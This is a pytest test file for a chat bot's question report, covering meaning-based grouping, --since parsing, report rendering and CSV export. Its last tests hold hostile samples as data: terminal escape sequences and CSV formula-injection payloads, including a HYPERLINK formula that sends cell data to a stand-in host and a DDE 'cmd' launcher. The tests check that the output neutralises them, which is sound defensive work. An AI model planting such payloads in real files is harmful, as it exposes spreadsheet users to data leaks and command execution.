"""The report: grouping by meaning (on vectors, and on the fixture log with the real model), --since, rendering."""

from __future__ import annotations

import asyncio
import csv
import itertools
import json
import os
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest

from bot.cli import main
from bot.core import wording
from bot.core.errors import ConfigError
from bot.core.report import (
    SIMILARITY,
    Gap,
    Report,
    build_report,
    clusters,
    group_by_meaning,
    parse_since,
    report_text,
)
from bot.db import AskedQuestion, Database, DownVote, Outcome
from bot.db.reports import Scope
from bot.terminal.report import write_csv

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "report"
T0 = datetime(2026, 1, 1, tzinfo=UTC)


def words_vector(text: str, dims: int = 64) -> np.ndarray:
    """A bag of words, hashed: questions sharing words are alike (a stand-in for the model)."""
    vector = np.zeros(dims)
    for word in text.lower().strip("?").split():
        vector[sum(map(ord, word)) % dims] += 1.0
    return vector


def embed_words(texts: list[str]) -> np.ndarray:
    return np.stack([words_vector(t) for t in texts])


def test_clusters_merge_what_is_alike_and_stop_at_the_threshold() -> None:
    """Two tight pairs merge, an orthogonal vector stays alone; a threshold above every similarity merges nothing."""
    vectors = np.array([[1.0, 0.0, 0.0], [0.9, 0.1, 0.0], [0.0, 1.0, 0.0], [0.1, 0.95, 0.0], [0.0, 0.0, 1.0]])
    assert clusters(vectors, 0.6) == [[0, 1], [2, 3], [4]]
    assert clusters(vectors, 0.999) == [[0], [1], [2], [3], [4]]
    assert clusters(np.zeros((0, 3)), 0.6) == []


def test_average_linkage_does_not_chain() -> None:
    """A chain a~b~c with a and c unlike is not one group: the mean similarity decides, not the closest pair."""
    a, c = np.array([1.0, 0.0]), np.array([0.0, 1.0])
    b = (a + c) / np.linalg.norm(a + c)  # 0.71 like each end
    assert len(clusters(np.stack([a, b, c]), 0.6)) == 2


def test_groups_are_largest_first_with_the_most_asked_wording_as_example() -> None:
    """A group's count is the sum of its wordings' counts; its example is the most asked wording."""
    asked = [
        AskedQuestion("How much does Watson cost?", 1, T0),
        AskedQuestion("What is the weather?", 2, T0),
        AskedQuestion("Watson cost per month?", 3, T0 + timedelta(hours=1)),
    ]
    vectors = np.array([[1.0, 0.0], [0.0, 1.0], [0.95, 0.05]])
    gaps = group_by_meaning(asked, vectors)
    assert [(g.count, g.example, g.wordings) for g in gaps] == [
        (4, "Watson cost per month?", ("Watson cost per month?", "How much does Watson cost?")),
        (2, "What is the weather?", ("What is the weather?",)),
    ]
    assert gaps[0].last_asked == T0 + timedelta(hours=1)


def _pairwise_f1(groups: list[list[int]], labels: list[str]) -> float:
    found = {frozenset(p) for g in groups for p in itertools.combinations(g, 2)}
    truth = {frozenset(p) for p in itertools.combinations(range(len(labels)), 2) if labels[p[0]] == labels[p[1]]}
    precision, recall = len(found & truth) / len(found), len(found & truth) / len(truth)
    return 2 * precision * recall / (precision + recall)


@pytest.mark.model
@pytest.mark.parametrize(("name", "least"), [("tuning", 0.8), ("heldout", 0.9)])
def test_fixture_logs_group_by_meaning_with_the_projects_model(name: str, least: float) -> None:
    """With the project's embeddings at SIMILARITY, the labelled logs group as a person did (pairwise F1)."""
    from index.embed import Embedder

    rows = [json.loads(line) for line in (FIXTURES / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]
    vectors = Embedder().encode([r["question"] for r in rows], batch_size=32)
    groups = clusters(vectors, SIMILARITY)
    labels = [r["group"] for r in rows]
    assert _pairwise_f1(groups, labels) >= least
    if name == "tuning":  # a topic worded four ways is mostly one group, without the weather
        pricing = {i for i, label in enumerate(labels) if label == "pricing"}
        weather = {i for i, label in enumerate(labels) if label == "weather"}
        together = max((set(g) for g in groups), key=lambda g: len(g & pricing))
        assert len(together & pricing) >= 3 and not together & weather


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("7d", timedelta(days=7)),
        (" 12H ", timedelta(hours=12)),
        ("2w", timedelta(weeks=2)),
        ("30m", timedelta(minutes=30)),
    ],
)
def test_since_reads_a_number_and_a_unit(text: str, expected: timedelta) -> None:
    assert parse_since(text) == expected


@pytest.mark.parametrize("text", ["", "7", "d", "0d", "7y", "-1d", "1.5d", "100000w"])
def test_a_bad_since_is_one_line(text: str) -> None:
    """Anything else is a ConfigError (exit status 2) with one line naming the fix."""
    with pytest.raises(ConfigError) as error:
        parse_since(text)
    assert "\n" not in str(error.value) and "7d" in str(error.value)


@pytest.fixture
async def db(tmp_path: Path, sqlite_migrated: Path) -> AsyncIterator[Database]:
    now = [T0]
    async with await Database.open(None, data_dir=tmp_path, clock=lambda: now[0]) as database:
        yield database


async def test_report_reads_gaps_votes_and_most_asked(db: Database, tmp_path: Path) -> None:
    """Abstained and low-confidence questions grouped; 👎 with their reasons; most asked; rendered and as CSV."""
    record = db.questions.record
    for asker, question in enumerate(["Watson cost per month", "watson cost per month?", "Watson cost"]):
        await record(platform="discord", asker=asker, question=question, outcome=Outcome.ABSTAINED)
    await record(platform="slack", asker=9, question="weather in Paris tomorrow", outcome=Outcome.LOW_CONFIDENCE)
    answered = await record(platform="discord", asker=1, question="Why did IBM quit?", outcome=Outcome.ANSWERED)
    await db.votes.cast(answered, 5, up=False, reason="quoted the wrong paragraph")
    report = await build_report(db, T0 - timedelta(days=7), embed_words)
    assert [(g.count, len(g.wordings)) for g in report.gaps] == [(3, 2), (1, 1)]
    assert [(v.question, v.reason) for v in report.downvoted] == [("Why did IBM quit?", "quoted the wrong paragraph")]
    assert report.most_asked[0].count == 2
    text = report_text(report)
    assert "3× “watson cost per month?” (and 1 similar wording)" in text
    assert "“Why did IBM quit?” — quoted the wrong paragraph" in text
    path = tmp_path / "report.csv"
    assert write_csv(report, path) == 2 + 1 + len(report.most_asked)
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    assert rows[0] == ["section", "count", "question", "detail", "when"]
    assert rows[1][:3] == ["gap", "3", "watson cost per month?"]


async def test_a_scoped_report_reads_one_server_or_workspace_only(db: Database) -> None:
    """Each part of a chat admin's report (gaps, 👎, most asked) holds only the questions of its own server."""
    record = db.questions.record
    for guild, platform, word in [("G1", "discord", "rye"), ("G2", "discord", "spelt"), ("G1", "slack", "oat")]:
        await record(platform=platform, guild=guild, asker=1, question=f"{word} bread?", outcome=Outcome.ABSTAINED)
        answered = await record(platform=platform, guild=guild, asker=1, question=word, outcome=Outcome.ANSWERED)
        await db.votes.cast(answered, 5, up=False, reason=f"not about {word}")
    report = await build_report(db, T0 - timedelta(days=7), embed_words, Scope("discord", "G1"))
    assert [g.example for g in report.gaps] == ["rye bread?"]
    assert [v.reason for v in report.downvoted] == ["not about rye"]
    assert sorted(q.question for q in report.most_asked) == ["rye", "rye bread?"]
    everything = await build_report(db, T0 - timedelta(days=7), embed_words)
    assert len(everything.gaps) == 3 and len(everything.downvoted) == 3


@pytest.mark.parametrize("limit", [2000, 3000, 600])
def test_a_report_within_a_limit_keeps_every_part_and_counts_what_is_left_out(limit: int) -> None:
    """30 long gaps, 20 👎 with long reasons, 10 most asked: within the limit, each part has its heading and its
    first entries, whole, and says how many more there are."""
    long = "why does the levain " * 12
    gaps = tuple(Gap(f"{long}{n}", 30 - n, (f"{long}{n}",), T0) for n in range(30))
    votes = tuple(DownVote(str(n), f"{long}{n}", f"{long}reason", T0, T0, [], "v1") for n in range(20))
    asked = tuple(AskedQuestion(f"{long}{n}", 10 - n, T0) for n in range(10))
    text = report_text(Report(T0, gaps, votes, asked), bold="**", limit=limit)
    assert len(text) <= limit
    lines = text.splitlines()
    for heading, total in [(wording.REPORT_GAPS, 30), (wording.REPORT_DOWNVOTED, 20), (wording.REPORT_MOST_ASKED, 10)]:
        at = lines.index(f"**{heading}**")
        part = list(itertools.takewhile(bool, lines[at + 1 :]))
        assert part[-1] == wording.report_more(total - (len(part) - 1))
        assert len(part) >= (2 if limit >= 2000 else 1)  # a chat message's room shows entries of every part
    everything = report_text(Report(T0, gaps, votes, asked))
    assert wording.report_more(20) in everything and wording.report_more(10) in everything  # each=10 a part


async def test_an_empty_log_says_so_and_never_embeds(db: Database) -> None:
    """Nothing asked: the report says so in one line, without loading the model."""

    def never(texts: list[str]) -> np.ndarray:
        raise AssertionError("embedded with nothing to group")

    report = await build_report(db, T0, never)
    assert report.empty and report_text(report).endswith("Nothing was asked in that time.")


def test_cli_bad_since_exits_2_with_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`python -m bot report --since 7y`: one line on stderr, exit status 2, nothing on stdout."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    assert main(["report", "--since", "7y"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "7d" in err


def test_cli_report_on_an_empty_log_prints_and_writes_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`python -m bot report --csv FILE` on a log with nothing in it: the report says so; the CSV has its header."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    asyncio.run(_made(tmp_path / "data"))  # a bot started there once
    assert main(["report", "--since", "1d", "--csv", str(tmp_path / "r.csv")]) == 0
    out, err = capsys.readouterr()
    assert "Nothing was asked in that time." in out and "Wrote 0 row(s)" in err
    assert (tmp_path / "r.csv").read_text(encoding="utf-8").startswith("section,count,question,detail,when")
    assert main(["report", "--csv", str(tmp_path / "missing" / "r.csv")]) == 2
    assert "cannot write" in capsys.readouterr().err


def test_cli_report_refuses_an_unwritable_csv_before_reading_anything(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The CSV path is checked first: a database that cannot open either is not what the line is about,
    and a file already there is left as it was."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "not-a-folder"))
    (tmp_path / "not-a-folder").write_text("a file where the data folder should be\n", encoding="utf-8")
    for target, reason in ((tmp_path / "missing" / "r.csv", "no folder"), (tmp_path, "it is a folder")):
        assert main(["report", "--csv", str(target)]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and f"cannot write {target} ({reason}" in err
    kept = tmp_path / "kept.csv"
    kept.write_text("old rows\n", encoding="utf-8")
    kept.chmod(0o444)
    if not os.access(kept, os.W_OK):  # root may write it all the same
        assert main(["report", "--csv", str(kept)]) == 2
        assert "permission denied" in capsys.readouterr().err
    assert kept.read_text(encoding="utf-8") == "old rows\n"


async def _made(data_dir: Path) -> None:
    async with await Database.open(None, data_dir=data_dir):
        pass


def test_cli_report_where_no_bot_keeps_its_log_says_so_and_makes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Run from another folder than the bots' (DATA_DIR=data is relative), the report made a new, empty
    database there (and DATA_DIR's folders) and said "Nothing was asked in that time."."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "elsewhere" / "data"))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    assert main(["report"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert err.startswith(f"ConfigError: no question log at {tmp_path / 'elsewhere' / 'data' / 'citebot.db'}:")
    assert "DATA_DIR" in err
    assert not (tmp_path / "elsewhere").exists()


ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"  # clear the screen, retitle the terminal, a C1 CSI, a bidi override
CONTROLS = "\x1b\x07\x9b\u202e"


async def test_a_persons_control_characters_never_reach_the_terminal_or_the_csv(db: Database, tmp_path: Path) -> None:
    """A question the bot could not answer is logged as typed, and a 👎's reason too: their escape sequences
    were printed to the operator's terminal by `python -m bot report` (and written to the CSV) as they were."""
    failed = await db.questions.record(
        platform="discord", asker=1, question=f"{ESCAPES}why?\nreally", outcome=Outcome.FAILED
    )
    answered = await db.questions.record(platform="slack", asker=2, question="Who?", outcome=Outcome.ANSWERED)
    await db.votes.cast(answered, 5, up=False, reason=f"wrong{ESCAPES}one")
    report = await build_report(db, T0 - timedelta(days=7), embed_words)
    assert [q.question for q in report.most_asked if q.question.endswith("really")], failed
    text = report_text(report)
    assert not any(c in text for c in CONTROLS), ascii(text)
    assert "“[2J ]0;owned 31m why? really”" in text and "wrong [2J ]0;owned 31m one" in text
    path = tmp_path / "report.csv"
    write_csv(report, path)
    written = path.read_text(encoding="utf-8")
    assert not any(c in written for c in CONTROLS), ascii(written)
    assert "why?\nreally" in written  # a line break in a cell is kept, quoted


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("http://x.example/?"&A1,"more")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
)
def test_a_csv_cell_is_never_a_formula(tmp_path: Path, typed: str) -> None:
    """A chat user's question or reason opening with = + - or @ was written as it was: a spreadsheet opening
    the CSV runs it as a formula."""
    report = Report(
        T0,
        (Gap(typed, 2, (typed, "other"), T0),),
        (DownVote("a", typed, typed, T0, T0, [], "v1"),),
        (AskedQuestion(typed, 2, T0),),
    )
    path = tmp_path / "r.csv"
    write_csv(report, path)
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1:]
    cells = [cell for row in rows for cell in (row[2], row[3]) if cell]
    assert cells and all(cell in (f"'{typed}", f"'{typed} | other") for cell in cells), cells


def test_a_csv_cell_of_plain_words_is_as_typed(tmp_path: Path) -> None:
    report = Report(T0, (), (), (AskedQuestion("What is 2-3? e=mc2 @home", 1, T0),))
    path = tmp_path / "r.csv"
    write_csv(report, path)
    assert list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1][2] == "What is 2-3? e=mc2 @home"
